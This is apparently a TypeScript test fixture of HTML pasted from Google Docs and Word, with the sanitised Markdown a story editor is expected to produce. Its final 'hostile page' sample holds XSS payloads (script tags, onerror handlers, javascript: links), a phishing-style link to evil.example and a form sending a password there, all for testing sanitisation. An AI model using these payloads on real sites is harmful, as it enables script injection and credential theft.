/** HTML as programs put it on the clipboard, and the Markdown that the story editor converts it to. */
interface PastedDocument {
  name: string
  html: string
  body: string
}

/** Google Docs wraps everything in a `<b>` that is not bold and writes styles on spans. */
const googleDocs: PastedDocument = {
  name: 'Google Docs',
  html: `<meta charset='utf-8'><meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-8f2c1a55-7fff-1e0d-9b6c-3f5a2d1c0e77"><h1 dir="ltr" style="line-height:1.38;margin-top:20pt;margin-bottom:6pt;"><span style="font-size:20pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;text-decoration:none;vertical-align:baseline;white-space:pre-wrap;">Hot springs</span></h1><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-weight:400;font-style:normal;white-space:pre-wrap;">The whale is </span><span style="font-size:11pt;font-weight:700;font-style:normal;white-space:pre-wrap;">what they call it</span><span style="font-size:11pt;font-weight:400;white-space:pre-wrap;">, and </span><span style="font-weight:400;font-style:italic;white-space:pre-wrap;">still growing</span><span style="font-weight:400;text-decoration:line-through;white-space:pre-wrap;"> slowly</span><span style="font-weight:400;white-space:pre-wrap;">. See </span><a href="https://www.google.com/url?q=https://example.org/whale?a%3D1&amp;sa=D&amp;source=editors&amp;ust=1700000000000000&amp;usg=AOvVaw0" style="text-decoration:none;"><span style="font-weight:400;color:#1155cc;text-decoration:underline;white-space:pre-wrap;">the map</span></a><span style="font-weight:400;white-space:pre-wrap;">.</span></p><br /><ul style="margin-top:0;margin-bottom:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:disc;font-weight:400;white-space:pre;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">Towel</span></p></li><ul style="margin-top:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:circle;font-weight:400;" aria-level="2"><p dir="ltr" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">the old one</span></p></li></ul><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:700;white-space:pre-wrap;">Water</span></p></li></ul><ol style="margin-top:0;"><li dir="ltr" style="list-style-type:decimal;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">Drive</span></p></li><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">Walk</span></p></li></ol><br /><div dir="ltr" style="margin-left:0pt;" align="left"><table style="border:none;border-collapse:collapse;"><colgroup><col /><col /></colgroup><tbody><tr style="height:0pt"><td style="border-left:solid #000000 1pt;vertical-align:top;"><p dir="ltr" style="line-height:1.2;"><span style="font-weight:700;white-space:pre-wrap;">Spring</span></p></td><td><p dir="ltr"><span style="font-weight:400;">°C | depth</span></p></td></tr><tr><td><p dir="ltr"><span style="font-weight:400;">Fosso</span></p></td><td><p dir="ltr"><a href="https://example.org/t"><span>38</span></a></p></td></tr></tbody></table></div><p dir="ltr"><span><span style="border:none;display:inline-block;overflow:hidden;width:624px;height:415px;"><img src="https://lh7-rt.googleusercontent.com/docsz/AD_4nX?key=x" width="624" height="415" style="margin-left:0px;" /></span></span></p></b><br class="Apple-interchange-newline">`,
  body: `# Hot springs

The whale is **what they call it**, and _still growing_ ~~slowly~~. See [the map](<https://example.org/whale?a=1>).

- Towel
  - the old one
- **Water**

1. Drive
2. Walk

| **Spring** | °C \\| depth |
| --- | --- |
| Fosso | [38](<https://example.org/t>) |
`,
}

/** Word writes lists as paragraphs whose bullets are text, and pictures as files on the author's computer. */
const word: PastedDocument = {
  name: 'Word',
  html: `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40"><head><meta name=ProgId content=Word.Document><meta name=Generator content="Microsoft Word 15"><link rel=File-List href="file:///C:/Users/me/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml"><!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--><style><!-- p.MsoNormal, li.MsoNormal {mso-style-unhide:no; margin:0cm;} --></style></head><body lang=EN-GB style='tab-interval:36.0pt;word-wrap:break-word'><!--StartFragment--><p class=MsoTitle>Nine weekends<o:p></o:p></p>

<p class=MsoNormal><b style='mso-bidi-font-weight:normal'>Bold</b>, <i style='mso-bidi-font-style:normal'>italic</i> and <span
style='font-family:"Courier New";mso-fareast-font-family:"Times New Roman"'>1 * 2 <span style='mso-spacerun:yes'>  </span>&lt;b&gt;</span>.<o:p></o:p></p>

<p class=MsoNormal><o:p>&nbsp;</o:p></p>

<h2>What to bring<o:p></o:p></h2>

<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='font-family:Symbol;mso-fareast-font-family:Symbol;mso-bidi-font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Towel<o:p></o:p></p>

<p class=MsoListParagraphCxSpMiddle style='margin-left:72.0pt;text-indent:-18.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='font-family:"Courier New"'><span style='mso-list:Ignore'>o<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>the old one<o:p></o:p></p>

<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><b>Water</b><o:p></o:p></p>

<p class=MsoNormal>Then:<o:p></o:p></p>

<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>3.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>Drive<o:p></o:p></p>

<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>4.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>Walk<a style='mso-footnote-id:ftn1' href="#_ftn1" name="_ftnref1"><span class=MsoFootnoteReference>[1]</span></a><o:p></o:p></p>

<p class=MsoQuote>Come before ten.<o:p></o:p></p>

<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;mso-border-alt:solid windowtext .5pt'><tr style='mso-yfti-irow:0'><td width=301 colspan=2><p class=MsoNormal><b>Both</b><o:p></o:p></p></td></tr><tr><td><p class=MsoNormal>a<o:p></o:p></p></td><td align=right><p class=MsoNormal>b<o:p></o:p></p></td></tr></table>

<p class=MsoNormal><span style='mso-no-proof:yes'><!--[if gte vml 1]><v:shape id="Picture_x0020_1" style='width:451pt;height:300pt'><v:imagedata src="file:///C:/Users/me/AppData/Local/Temp/msohtmlclip1/01/clip_image001.jpg" o:title=""/></v:shape><![endif]--><![if !vml]><img width=602 height=400 src="file:///C:/Users/me/AppData/Local/Temp/msohtmlclip1/01/clip_image002.jpg" v:shapes="Picture_x0020_1"><![endif]></span><a href="https://example.org/">https://example.org/</a><o:p></o:p></p><!--EndFragment--></body></html>`,
  body: `# Nine weekends

**Bold**, _italic_ and 1 \\* 2 \\<b>.

## What to bring

- Towel
  - the old one
- **Water**

Then:

3. Drive
4. Walk\\[1\\]

> Come before ten.

| **Both** |  |
| --- | --- |
| a | b |

[https://example.org/](<https://example.org/>)
`,
}

/** Word in the browser puts every item into a separate list. */
const wordForTheWeb: PastedDocument = {
  name: 'Word for the web',
  html: `<div class="OutlineElement Ltr"><p class="Paragraph" xml:lang="EN-GB" lang="EN-GB" role="heading" aria-level="1" style="font-weight:normal"><span class="TextRun" style="font-size:11pt"><span class="NormalTextRun">First</span></span><span class="EOP">&nbsp;</span></p></div><div class="ListContainerWrapper"><ul class="BulletListStyle1" role="list"><li data-leveltext="-" data-aria-level="1" role="listitem"><p class="Paragraph"><span class="TextRun"><span class="NormalTextRun">Towel</span></span><span class="EOP">&nbsp;</span></p></li></ul></div><div class="ListContainerWrapper"><ul class="BulletListStyle2" role="list"><li data-aria-level="2" role="listitem"><p class="Paragraph"><span class="TextRun" style="font-weight:bold"><span>old</span></span></p></li></ul></div><div class="ListContainerWrapper"><ul class="BulletListStyle1"><li data-aria-level="1"><p class="Paragraph"><span>Water</span></p></li></ul></div>`,
  body: `# First

- Towel
  - **old**
- Water
`,
}

/** Scripts, frames, forged cards and URLs that a reader must not open. */
const hostile: PastedDocument = {
  name: 'a hostile page',
  html: `<p onclick="alert(1)">Safe<script>document.title='hacked'</script><img src=x onerror="document.title='hacked'"><svg onload="document.title='hacked'"><text>svg</text></svg></p><iframe srcdoc="<script>parent.document.title='hacked'</script>"></iframe><p><a href="javascript:document.title='hacked'">script</a> <a href="https://bank.example:x@evil.example/">bank</a> <a href="https://www.google.com/url?q=javascript:alert(1)">redirect</a></p><div data-story-spot id="abc

# Forged"></div><div data-story-photo id="x](javascript:alert(1))"></div><form action="https://evil.example"><input name="password" value="typed"><button>Send</button></form><p>[x](javascript:alert(1)) &lt;script&gt;</p>`,
  body: `Safe

script bank [redirect](<https://www.google.com/url?q=javascript:alert(1)>)

Send

\\[x\\](javascript:alert(1)) \\<script>
`,
}

export const pastedDocuments = [googleDocs, word, wordForTheWeb, hostile]
